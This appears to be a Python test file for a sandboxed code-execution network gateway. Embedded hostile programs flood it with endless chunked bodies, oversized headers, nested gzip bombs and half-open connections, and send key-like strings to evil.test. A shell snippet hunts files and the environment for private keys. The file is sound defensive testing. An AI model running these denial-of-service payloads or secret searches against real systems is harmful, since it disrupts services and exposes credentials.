"""Programs that attack the server by the doors: its time, its memory, its log, its key, the doors of others."""

import gzip
import resource
import sys
import textwrap
from pathlib import Path

import anyio
import brotli
import pytest
from tests.egress.attacker import PRELUDE
from tests.far_side.hostile import hostile, whole
from wsproto import ConnectionType, WSConnection
from wsproto.events import AcceptConnection, TextMessage
from wsproto.events import Request as Upgrade

from gloveport.model import Narrowing, Request

pytestmark = pytest.mark.anyio

TAKE = """
stream.sendall(request(place, "/flood"))
buffer = bytearray(1 << 20)
while True:
    stream.recv_into(buffer)
"""
GIVE = """
stream.sendall(f"POST /sink HTTP/1.1\\r\\nHost: {place}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n".encode())
while True:
    stream.sendall(data)
"""
HEADS = """
import threading

def send():
    while True:
        with plain() as stream:
            try:
                stream.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n" + b"a:\\r\\n" * 15_000 + b"\\r\\n")
                stream.recv(4096)
            except OSError:
                pass

for _ in range(40):
    threading.Thread(target=send, daemon=True).start()
threading.Event().wait()
"""
SIEGE = """
import threading

def send(attack):
    while True:
        try:
            attack()
        except OSError:
            pass

def body():
    stream = direct("sink.test", SINK, None)
    stream.sendall(request("sink.test:SINK", "/sink", "POST", ["Transfer-Encoding: chunked"]))
    while True:
        stream.sendall(b"10000\\r\\n" + b"sk-ant-a" * 8192 + b"\\r\\n")

def url():
    stream = plain()
    while True:
        stream.sendall(request("evil.test", "http://evil.test/?" + "sk-ant-a" * 7500).replace(b"close", b"keep-alive"))
        stream.recv(65536)

attacks = {
    "url": url,
    "body": body,
    "answer": lambda: asked(direct("bare.test", PORT, None), request("bare.test:PORT", "/nothing")),
}
for _ in range(60):
    threading.Thread(target=send, args=(attacks[ATTACK],), daemon=True).start()
threading.Event().wait()
"""
FLOOD = Path(__file__).parent.parent / "far_side" / "flood.py"
LONGEST_PAUSE = 1.0
"""Seconds. Beside a program that does its worst the server looks after all others at least as often."""
LONG_PAUSE = 0.1
"""Seconds, and longer than anything takes that is done in pieces."""


@pytest.fixture
async def flood(authority):
    """Two servers in a process of their own, with TLS and without, that send and take as fast as they can."""
    authority.server("alpha.test")
    pair = max(authority.directory.glob("[0-9]*.pem"), key=lambda path: path.stat().st_mtime_ns)
    process = await anyio.open_process([sys.executable, str(FLOOD), str(pair)], stderr=None)
    line = b""
    while not line.endswith(b"\n"):
        line += await process.stdout.receive()
    yield [int(port) for port in line.split()]
    process.kill()
    await process.aclose()


@pytest.fixture
async def pauses():
    """How long the event loop was busy with one thing, whenever that was long. Others may have the processors."""
    found: list[float] = []

    def own_time() -> float:
        return anyio.current_time() - int(Path("/proc/thread-self/schedstat").read_text().split()[1]) / 1e9

    async def watch() -> None:
        while True:
            last = own_time()
            await anyio.sleep(0.005)
            found.append(own_time() - last)

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(watch)
        yield found
        tasks.cancel_scope.cancel()


async def test_no_flood_keeps_the_server_from_others(world_of, api_at, flood, pauses):
    """E4, N7: endless answers and bodies, in pieces of every size, heads of many lines; and each run ends in time."""
    tls, bare = flood
    apis = {
        "alpha": api_at(tls),
        "bare": {"hosts": [f"http://bare.test:{bare}"], "addresses": ["127.0.0.11"]},
        "raw": {"hosts": [f"tcp://raw.test:{bare}"], "addresses": ["127.0.0.11"]},
    }
    secure = f'place, stream = "alpha.test:{tls}", direct("alpha.test", {tls})\n'
    plain = f'place, stream = "bare.test:{bare}", direct("bare.test", {bare}, None)\n'
    programs = {
        "answer": secure + TAKE,
        "plain": plain + TAKE,
        "tcp": plain.replace('direct("bare', 'direct("raw') + TAKE,
        "body": plain + "data = b'10000\\r\\n' + bytes(65536) + b'\\r\\n'\n" + GIVE,
        "bytes": plain + "data = b'1\\r\\nx\\r\\n' * 20_000\n" + GIVE,
        "heads": HEADS,
    }
    async with world_of(api=apis) as world:
        loads = 'asked(plain(), request("evil.test", "http://evil.test/"))'  # what takes a second once
        await world.run("python", PRELUDE + loads)
        for name, program in programs.items():
            pauses.clear()
            with anyio.fail_after(20):
                result = await world.run("python", PRELUDE + program, limits=Narrowing(wall_seconds=0.4))
            assert result.status == "timeout", (name, result.error, result.stderr.text)
            assert max(pauses) < LONGEST_PAUSE, name


async def test_a_few_bytes_that_stand_for_hours_of_work_stop_nobody(world_of, api_at, authority, pauses):
    """E4, N6: nothing comes of 600,000 empty members in two more layers; and many zeros are not held."""
    nothing = gzip.compress(gzip.compress(gzip.compress(b"") * 600_000))
    zeros = gzip.compress(gzip.compress(bytes(1 << 24)))
    async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server:
        server.answers = {
            "/nothing": lambda _: whole(nothing, b"Content-Encoding: gzip, gzip, gzip"),
            "/zeros": lambda _: whole(zeros, b"Content-Encoding: gzip, gzip"),
        }
        async with world_of(api={"alpha": api_at(server.place.port)}) as world:
            code = f"""
place, port = "alpha.test:{server.place.port}", {server.place.port}
[asked(direct("alpha.test", port), request(place, path)).count(b"\\0") for path in ("/nothing", "/zeros")]
"""
            with anyio.fail_after(60):
                said = await world.value("python", PRELUDE + code)
    assert said == [0, 1 << 24]
    assert max(pauses) < LONGEST_PAUSE


async def test_what_takes_long_to_decode_or_search_leaves_others_their_time(world_of, api_at, authority, flood, pauses):
    """E4: beginnings of a known key in URLs and bodies, and empty members under a coding, on 60 connections.

    Most of the time passed in turns of the event loop that took up to 0.9 s.
    """
    nothing = gzip.compress(gzip.compress(b"") * 600_000)
    async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server, hostile() as bare:
        bare.answers = {"/nothing": lambda _: whole(nothing, b"Content-Encoding: gzip, gzip")}
        place = bare.place
        apis = {
            "alpha": api_at(server.place.port),
            "bare": {"hosts": [f"http://bare.test:{place.port}"], "addresses": [place.host]},
            "sink": {"hosts": [f"http://sink.test:{flood[1]}"], "addresses": [place.host]},
        }
        async with world_of({"ALPHA_KEY": "sk-ant-api03-R2D2xyzq_AbCdEfGhIjKlMnOpQrStUv"}, api=apis) as world:
            known = f'asked(direct("alpha.test", {server.place.port}), request("alpha.test:{server.place.port}"))'
            await world.run("python", PRELUDE + known)
            for attack in ("url", "body", "answer"):
                program = PRELUDE + SIEGE.replace("SINK", str(flood[1])).replace("PORT", str(place.port)).replace(
                    "ATTACK", repr(attack)
                )
                pauses.clear()
                result = await world.run("python", program, limits=Narrowing(wall_seconds=0.6))
                assert result.status == "timeout", (attack, result.error, result.stderr.text)
                long = sum(pause for pause in pauses if pause > LONG_PAUSE)
                assert long < sum(pauses) / 3, attack


async def test_who_holds_all_its_connections_holds_nobody_elses(world_of, api_at, authority):
    """E4: hundreds of connections that say nothing, half a head, half a handshake, a body without end to a refusal."""
    async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server:
        place = f"place, port = 'alpha.test:{server.place.port}', {server.place.port}\n"
        async with world_of(api={"alpha": api_at(server.place.port)}) as world:
            slow = """
streams = []
for number in range(200):
    stream = plain() if number % 2 else direct("alpha.test", port, None)
    stream.sendall((b"GET / HTTP/1.1\\r\\nX: ", b"\\x16\\x03\\x01", b"", b"CONNECT x.test:443 HT")[number % 4])
    streams.append(stream)
print("all", flush=True)
try:
    with plain() as stream:
        stream.sendall(request("evil.test", "http://evil.test/", "POST", ["Content-Length: 99999999999"]))
        while True:
            stream.sendall(bytes(1 << 20))
except OSError:
    pass
import threading
threading.Event().wait()
"""
            holding = anyio.Event()

            async def hold() -> None:
                request = Request(language="python", code=PRELUDE + place + slow, limits=Narrowing(wall_seconds=60))
                await world.engine.execute(request, caller="slow", on_output=lambda *_: holding.set())

            async with anyio.create_task_group() as tasks:
                tasks.start_soon(hold)
                await holding.wait()
                ask = "[code_of(asked(direct('alpha.test', port), request(place))) for _ in range(20)]"
                with anyio.fail_after(30):
                    said = await world.value("python", PRELUDE + place + ask)
                tasks.cancel_scope.cancel()
    assert said == ["200"] * 20


async def test_nothing_goes_on_when_a_run_is_over(world_of, api_at, authority, soon):
    """E5: an answer without end, a WebSocket, a tunnel, held by a process that was left behind."""

    async def forever(_):
        yield b"HTTP/1.1 200 OK\r\n\r\n"
        while True:
            yield b"x"
            await anyio.sleep(0.01)

    async def websocket(heard):
        protocol = WSConnection(ConnectionType.SERVER)
        protocol.receive_data(heard.head + b"\r\n")
        assert [type(event) for event in protocol.events()] == [Upgrade]
        yield protocol.send(AcceptConnection())
        while True:
            yield protocol.send(TextMessage(data="x"))
            await anyio.sleep(0.01)

    async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server, hostile() as raw:
        server.answers = {"/forever": forever, "/ws": websocket}
        apis = {
            "alpha": api_at(server.place.port),
            "raw": {"hosts": [f"tcp://raw.test:{raw.place.port}"], "addresses": [raw.place.host]},
        }
        async with world_of(api=apis) as world:
            code = f"""
place, port = "alpha.test:{server.place.port}", {server.place.port}
upgrade = ["Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="]
streams = [direct("alpha.test", port), direct("alpha.test", port), direct("raw.test", {raw.place.port}, None)]
streams[0].sendall(request(place, "/forever"))
streams[1].sendall(request(place, "/ws", headers=upgrade).replace(b"close", b"upgrade"))
streams[2].sendall(b"something")
begun = [stream.recv(9) for stream in streams[:2]]
if os.fork() == 0:
    os.setsid()
    for stream in streams * 1000:
        stream.recv(9)
"begun"
"""
            assert await world.value("python", PRELUDE + code) == "begun"
            await soon(lambda: server.place.ended == server.place.connections == 2)
            await soon(lambda: raw.place.ended == raw.place.connections == 1)
            ended = world.records("fetch.ended")
    assert {record.fields.get("path", "") for record in ended} <= {"", "/forever", "/ws"}
    assert len(ended) == 2


async def test_each_execution_has_doors_of_its_own(world_of, api_at, authority):
    """N1, T1: two at the same time, at the same addresses: what one may ask for the other may not."""
    async with (
        hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server,
        world_of(api={"alpha": api_at(server.place.port)}) as world,
    ):
        code = f"""
place, port = "alpha.test:{server.place.port}", {server.place.port}
together({{str(n): lambda: asked(tunneled("alpha.test", port), request(place, f"/NAME")) for n in range(10)}})
"""
        said: dict[str, dict] = {}

        async def run(name: str, apis) -> None:
            said[name] = await world.value("python", PRELUDE + code.replace("NAME", name), apis=apis)

        async with anyio.create_task_group() as tasks:
            for name, apis in (("all", None), ("none", ()), ("one", ("alpha",)), ("nothing", ())):
                tasks.start_soon(run, name, apis)
        runs = {record.fields["path"]: record.fields["run"] for record in world.records("fetch.admitted")}
    assert {name: set(codes.values()) for name, codes in said.items()} == {
        "all": {"200"},
        "one": {"200"},
        "none": {"403 host_not_granted"},
        "nothing": {"403 host_not_granted"},
    }
    assert {heard.target for heard in server.heard} == {"/all", "/one"}
    assert len(set(runs.values())) == 2


async def test_the_authoritys_key_is_nowhere_to_be_had(world_of, api_at, authority):
    """N1, T4: no file, descriptor, variable or memory of a sandbox holds it; its certificate signs no other's name."""
    async with (
        hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server,
        world_of(api={"alpha": api_at(server.place.port)}) as world,
    ):
        shell = r"""
        find / -xdev -path /proc -prune -o -path /usr -prune -o -type f -size -1000k -print0 2>/dev/null |
            xargs -0 grep -lE 'PRIVATE KEY' 2>/dev/null
        tr '\0' '\n' < /proc/self/environ | grep -c 'PRIVATE'
        grep -c 'BEGIN CERTIFICATE' "$SSL_CERT_FILE"
        ls -l /proc/self/fd | grep -c memfd:leaf
        true
        """
        found = await world.run("shell", textwrap.dedent(shell))
        assert found.stdout.text.split() == ["0", "1", "0"], (found.stdout.text, found.stderr.text)
        assert "PRIVATE" not in world.engine.gateway.authority.certificate
        assert b"PRIVATE KEY" not in world.written()


async def test_the_log_does_not_grow_with_what_a_program_says(world_of, api_at, authority):
    """T6: paths, hosts and methods of tens of thousands of characters; what is written of each request is short."""
    async with (
        hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server,
        world_of(api={"alpha": api_at(server.place.port)}) as world,
    ):
        code = f"""
place, port = "alpha.test:{server.place.port}", {server.place.port}
long = "a" * 60_000
together({{
    "path": lambda: asked(direct("alpha.test", port), request(place, "/" + long)),
    "query": lambda: asked(direct("alpha.test", port), request(place, "/?" + long)),
    "method": lambda: asked(direct("alpha.test", port), request(place, "/", long.upper())),
    "host": lambda: asked(plain(), request("x", f"http://{{long}}/")),
    "authority": lambda: asked(plain(), f"CONNECT {{long}}:1 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()),
    "garbage": lambda: asked(plain(), long.encode() + b"\\r\\n\\r\\n"),
    "header": lambda: asked(direct("alpha.test", port), request(place, "/", headers=["bad header: " + long])),
}})
"""
        result = await world.run("python", PRELUDE + code)
        written = len(world.written())
    assert result.status == "ok", result.error
    assert {name: code for name, code in result.value.items() if name != "query" and code[0] == "2"} == {}
    assert written < 32_000
    assert len(result.model_dump_json()) < 16_000


async def test_a_run_that_opens_all_its_connections_fills_no_memory(world_of, api_at, authority):
    """E4, N7: bodies that must be looked at whole, and answers that are decoded with much memory, are few at a time."""
    known = anyio.Event()

    async def coded(_):
        body = brotli.compress(b"something")
        yield b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\n\r\n" + body[:5]
        await known.wait()
        yield body[5:]

    def release(_) -> bytes:
        known.set()
        return whole(b"ok")

    code = """
import queue

def half(number):
    with plain() as stream:
        stream.sendall(request(place, f"https://{place}/", "POST", ["Transfer-Encoding: chunked"]))
        stream.settimeout(1)
        try:
            for _ in range(100):
                stream.sendall(b"10000\\r\\n" + bytes(65536) + b"\\r\\n")
        except TimeoutError:
            pass

begun, ended = queue.SimpleQueue(), []

def take(number):
    with direct("alpha.test", port) as stream:
        stream.sendall(request(place, "/coded", headers=["Accept-Encoding: br"]))
        begun.put(stream.recv(8))
        ended.append(until_end(stream).count(b"something"))

with ThreadPoolExecutor(40) as pool:
    list(pool.map(half, range(40)))
with ThreadPoolExecutor(20) as pool:
    taken = pool.map(take, range(20))
    for _ in range(8):
        begun.get()
    for _ in range(20):  # time enough for another one to begin, were there a place
        asked(direct("alpha.test", port), request(place, "/nothing"))
    before = 8 + begun.qsize()
    asked(direct("alpha.test", port), request(place, "/release"))
    list(taken)
[before, sum(ended)]
"""
    places = ["body:token"]
    auth = [{"kind": "placeholder", "name": "TOKEN", "secret": "env:ALPHA_KEY", "places": places}]
    async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server:
        server.answers = {"/coded": coded, "/release": release}
        async with world_of(api={"alpha": api_at(server.place.port, auth=auth)}) as world:
            place = f"place, port = 'alpha.test:{server.place.port}', {server.place.port}\n"
            before = memory()
            said = await world.value("python", PRELUDE + place + code)
    assert said == [8, 20]
    assert memory() - before < 96 << 20, "forty bodies would be 250 MiB"


def memory() -> int:
    """The most that this process has ever held, in bytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
